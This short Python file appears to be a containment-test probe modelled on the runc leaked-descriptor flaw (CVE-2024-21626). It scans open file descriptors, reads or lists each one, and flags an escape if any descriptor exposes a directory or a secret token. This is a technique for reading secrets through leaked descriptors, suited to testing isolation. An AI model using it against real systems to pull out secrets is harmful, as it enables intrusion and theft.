"""Read every descriptor that happens to be open.

origin: CVE-2024-21626 (runc: a leaked descriptor of the host's directory)
why: a descriptor is a right that was already granted
control: succeeds
"""


def attack(target):
    seen = []
    for number in range(1024):
        try:
            os.fstat(number)
        except OSError:
            continue
        seen.append(number)
        for read in (lambda: os.pread(number, 4096, 0), lambda: os.listdir(number)):
            try:
                data = read()
            except OSError:
                continue
            if isinstance(data, list):
                return escaped(f"descriptor {number} is a directory")
            if holds_token(target, data):
                return escaped(f"descriptor {number} reads the secret")
    return nothing(f"descriptors {seen} hold no secret")
